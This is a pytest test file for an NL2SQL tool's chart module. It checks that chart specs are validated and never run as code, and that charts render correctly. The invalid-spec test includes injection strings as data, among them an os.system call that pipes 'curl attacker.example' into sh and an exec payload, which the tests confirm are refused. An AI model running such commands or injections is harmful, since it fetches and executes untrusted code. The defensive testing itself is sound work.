"""Charts: a validated spec (never code), drawn by our matplotlib code into real pixels."""

from __future__ import annotations

import dataclasses
from pathlib import Path

import pytest

from nl2sql.answer.charts import (
    ChartError,
    ChartSpec,
    InvalidChartSpec,
    choose_chart,
    pick_chart,
    sane,
    validate_spec,
)
from nl2sql.answer.draw import render
from nl2sql.core.values import Result
from nl2sql.data.catalog import Catalog
from nl2sql.jobs.ask import run_sql
from nl2sql.safety.sandbox import Sandbox

COLUMNS = ["category", "revenue", "orders"]




def _query(shop: tuple[Catalog, Sandbox], sql: str) -> Result:
    result = run_sql(sql, shop[0], shop[1], 1000).result
    assert result is not None
    return result


def test_a_valid_spec() -> None:
    spec = validate_spec({"type": "bar", "x": "category", "y": "revenue", "sort": "desc", "limit": 10}, COLUMNS)
    assert spec == ChartSpec("bar", "category", ("revenue",), sort="desc", limit=10)
    assert spec.to_dict() == {"type": "bar", "x": "category", "y": ["revenue"], "sort": "desc", "limit": 10}


@pytest.mark.parametrize("raw, message", [
    ({"type": "bar", "x": "__import__('os').system('order_id')", "y": "total"}, "is not a column of the result"),
    ("import os; os.system('curl attacker.example | sh')", "must be a JSON object"),
    ({"type": "plotly", "x": "category", "y": "revenue"}, "chart type must be one of"),
    ({"type": "bar", "x": "category", "y": []}, "y must be"),
    ({"type": "bar", "x": "category", "y": "revenue", "code": "exec('x')"}, "unknown chart fields: code"),
    ({"type": "bar", "x": "category", "y": "revenue", "limit": 10**9}, "limit must be"),
    ({"type": "bar", "x": "category", "y": "revenue", "series": "region"}, "'region' is not a column"),
    ({"type": "bar", "x": "category", "y": "revenue", "sort": "random()"}, "sort must be"),
])
def test_invalid_specs_are_refused(raw: object, message: str) -> None:
    with pytest.raises(InvalidChartSpec, match=message.replace("(", r"\(").replace(")", r"\)")):
        validate_spec(raw, COLUMNS)


def test_an_invalid_model_spec_falls_back_to_rules() -> None:
    columns = [("category", "VARCHAR"), ("revenue", "DOUBLE")]
    spec, why = pick_chart({"type": "bar", "x": "__import__('os')", "y": "revenue"}, columns, 5, "Revenue")
    assert spec == choose_chart(columns, 5, "Revenue") and spec is not None and spec.x == "category"
    assert why is not None and "not a column" in why
    spec, why = pick_chart({"type": "pie", "x": "category", "y": ["revenue"]}, columns, 5, "Revenue")
    assert spec is not None and spec.type == "pie" and why is None and spec.title == "Revenue"


def _pixels(path: Path) -> tuple[int, int]:
    """(distinct colours, share of non-white pixels) of a PNG."""
    import matplotlib.image as mpimg

    img = mpimg.imread(path)[:, :, :3]
    flat = (img.reshape(-1, 3) * 255).astype(int)
    colours = len({tuple(p) for p in flat[:: 7]})
    ink = float((flat.sum(axis=1) < 720).mean())
    return colours, ink


CASES = {
    "bar": ("SELECT p.category, SUM(i.quantity * i.unit_price) AS revenue FROM order_items i "
            "JOIN products p ON p.product_id = i.product_id GROUP BY 1 ORDER BY 2 DESC", None),
    "barh": ("SELECT p.product_name, SUM(i.quantity) AS units FROM order_items i "
             "JOIN products p ON p.product_id = i.product_id GROUP BY 1", None),
    "line": ("SELECT date_trunc('month', order_date) AS month, COUNT(*) AS orders FROM orders GROUP BY 1", None),
    "area": ("SELECT date_trunc('month', order_date) AS month, channel, COUNT(*) AS orders FROM orders "
             "GROUP BY 1, 2", {"stacked": True}),
    "scatter": ("SELECT p.unit_price, SUM(i.quantity) AS units FROM order_items i "
                "JOIN products p ON p.product_id = i.product_id GROUP BY 1", None),
    "pie": ("SELECT channel, COUNT(*) AS orders FROM orders GROUP BY 1", None),
    "histogram": ("SELECT unit_price, product_id FROM products", None),
}


@pytest.mark.parametrize("kind", list(CASES))
def test_each_chart_type_draws_a_real_image(kind: str, shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
    sql, extra = CASES[kind]
    result = _query(shop, sql)
    names = [n for n, _ in result.columns]
    base = choose_chart(result.columns, result.row_count, f"A {kind} chart") or ChartSpec(
        kind, names[0], (names[1],))
    spec = validate_spec({**base.to_dict(), "type": kind, **(extra or {})}, names)
    path = tmp_path / f"{kind}.png"
    render(spec, result.columns, result.rows, path)
    colours, ink = _pixels(path)
    assert colours > 10 and 0.01 < ink < 0.9, (kind, colours, ink)


def test_svg_and_many_categories(shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
    result = _query(shop, CASES["barh"][0])
    assert result.row_count > 15
    spec = choose_chart(result.columns, result.row_count, "Units by product")
    assert spec is not None
    render(spec, result.columns, result.rows, tmp_path / "c.svg")
    svg = (tmp_path / "c.svg").read_text()
    assert svg.startswith("<?xml") and f"Other ({result.row_count - 14})" in svg
    assert "Units by product" in svg


def test_thousands_separators_on_the_value_axis(shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
    result = _query(shop, CASES["bar"][0])
    spec = choose_chart(result.columns, result.row_count, "Revenue")
    assert spec is not None
    render(spec, result.columns, result.rows, tmp_path / "c.svg")
    assert "10,000,000" in (tmp_path / "c.svg").read_text()


def test_mathtext_in_data_labels_is_plain_text(tmp_path: Path) -> None:
    # N05: a nested \frac label makes matplotlib's mathtext recurse until it fails
    label = "$" + "\\frac{1}{" * 60 + "1" + "}" * 60 + "$"
    columns = [("status", "VARCHAR"), ("orders", "BIGINT")]
    rows = [(label, 5), ("completed", 9), ("$5 off$", 3)]
    spec = ChartSpec("bar", "status", ("orders",), title=label)  # titles are not shortened like tick labels
    render(spec, columns, rows, tmp_path / "c.png")
    assert _pixels(tmp_path / "c.png")[1] > 0.01


def test_a_pie_of_negative_values_is_refused(tmp_path: Path) -> None:
    columns = [("channel", "VARCHAR"), ("change", "DOUBLE")]
    with pytest.raises(ChartError, match="negative"):
        render(ChartSpec("pie", "channel", ("change",)), columns, [("web", 5.0), ("mobile", -3.0)], tmp_path / "c.png")
    with pytest.raises(ChartError, match=r"\.png or \.svg"):
        render(ChartSpec("bar", "channel", ("change",)), columns, [("web", 5.0)], tmp_path / "c.gif")


def _colour_share(path: Path, hex_colour: str) -> float:
    """Share of a PNG's pixels within a small distance of one colour."""
    import matplotlib.image as mpimg
    import numpy as np

    target = np.array([int(hex_colour[i:i + 2], 16) for i in (1, 3, 5)]) / 255
    img = mpimg.imread(path)[:, :, :3]
    return float((np.abs(img - target).sum(axis=2) < 0.08).mean())


YEARS_SQL = ("SELECT YEAR(o.order_date) AS year, p.category, SUM(i.quantity * i.unit_price) AS revenue "
             "FROM order_items i JOIN orders o ON o.order_id = i.order_id "
             "JOIN products p ON p.product_id = i.product_id GROUP BY 1, 2 ORDER BY 1, 2")


def test_a_year_on_year_comparison_is_grouped_bars_with_a_legend_per_year(shop: tuple[Catalog, Sandbox],
                                                                          tmp_path: Path) -> None:
    result = _query(shop, YEARS_SQL)
    spec = choose_chart(result.columns, result.row_count, "Revenue 2024 vs 2025", result.rows)
    # the year is the legend, never a measure; bars side by side, not stacked
    assert spec == ChartSpec("bar", "category", ("revenue",), series="year", title="Revenue 2024 vs 2025")
    render(spec, result.columns, result.rows, tmp_path / "c.png")
    blue, orange = _colour_share(tmp_path / "c.png", "#4C72B0"), _colour_share(tmp_path / "c.png", "#DD8452")
    assert blue > 0.02 and orange > 0.02, (blue, orange)  # one colour per year, both drawn
    render(spec, result.columns, result.rows, tmp_path / "c.svg")
    svg = (tmp_path / "c.svg").read_text()
    assert ">2024<" in svg and ">2025<" in svg and ">year<" in svg  # the legend names the periods
    assert svg.index(">Electronics<") < svg.index(">Books<")  # categories by the latest year, largest first


def test_a_time_axis_is_never_re_sorted_cut_or_a_pie(shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
    days = _query(shop, "SELECT CAST(order_date AS DATE) AS day, COUNT(*) AS orders FROM orders "
                        "WHERE order_date >= DATE '2025-01-01' GROUP BY 1 ORDER BY 2 DESC")
    names = [n for n, _ in days.columns]
    asked = validate_spec({"type": "bar", "x": "day", "y": "orders", "sort": "desc", "limit": 14}, names)
    spec, why = sane(asked, days.columns, days.rows)
    assert spec is not None and (spec.type, spec.sort, spec.limit) == ("line", None, None)
    assert why is not None and "time axis" in why
    months = _query(shop, "SELECT date_trunc('month', order_date) AS month, COUNT(*) AS orders FROM orders "
                          "WHERE order_date >= DATE '2025-01-01' GROUP BY 1 ORDER BY 2")
    pie, _ = sane(ChartSpec("pie", "month", ("orders",)), months.columns, months.rows)
    assert pie is not None and pie.type == "line"
    render(ChartSpec("bar", "month", ("orders",)), months.columns, months.rows, tmp_path / "m.svg")
    svg = (tmp_path / "m.svg").read_text()
    assert "Other" not in svg and "Jan 2025" in svg and "Dec 2025" in svg  # every month, in order, as people write it
    assert svg.index("Jan 2025") < svg.index("Feb 2025") < svg.index("Dec 2025")


def test_partial_periods_are_marked_on_the_chart_and_in_the_warnings() -> None:
    from nl2sql.jobs.workspace import Workspace

    with Workspace.open(backend="offline") as ws:
        answer = ws.ask("Revenue by week in 2025")
    assert answer.chart is not None and answer.chart.partial == ("2024-12-30", "2025-12-29")
    assert any(w.startswith("Partial weeks: the first week (2024-12-30) holds 5 of its 7 days; the last week "
                            "(2025-12-29) holds 3 of its 7 days") for w in answer.warnings), answer.warnings
    assert answer.narration is not None and answer.narration.startswith("Leaving out the partial 2024-12-30 and "
                                                                        "2025-12-29, revenue went from")
    assert answer.chart.subtitle == "2025" and "LIMIT" not in answer.sql and answer.row_cap == 1000


def test_partial_points_are_drawn_hollow_with_a_note(tmp_path: Path) -> None:
    import datetime as dt

    columns = [("week", "DATE"), ("revenue", "DOUBLE")]
    rows = [(dt.date(2024, 12, 30) + dt.timedelta(weeks=n), 100.0 + n) for n in range(6)]
    spec = ChartSpec("line", "week", ("revenue",), title="Revenue by week", subtitle="channel: web · 2025",
                     partial=("2024-12-30",))
    render(spec, columns, rows, tmp_path / "c.svg")
    svg = (tmp_path / "c.svg").read_text()
    assert "partial period" in svg and "channel: web · 2025" in svg and "Revenue by week" in svg
    render(dataclasses.replace(spec, partial=()), columns, rows, tmp_path / "d.svg")
    assert "partial period" not in (tmp_path / "d.svg").read_text()


def test_axis_labels_are_humanised(shop: tuple[Catalog, Sandbox], tmp_path: Path) -> None:
    result = _query(shop, CASES["barh"][0])
    spec = choose_chart(result.columns, result.row_count, "Units by product", result.rows)
    assert spec is not None
    render(spec, result.columns, result.rows, tmp_path / "c.svg")
    svg = (tmp_path / "c.svg").read_text()
    assert ">product name<" in svg and "product_name" not in svg
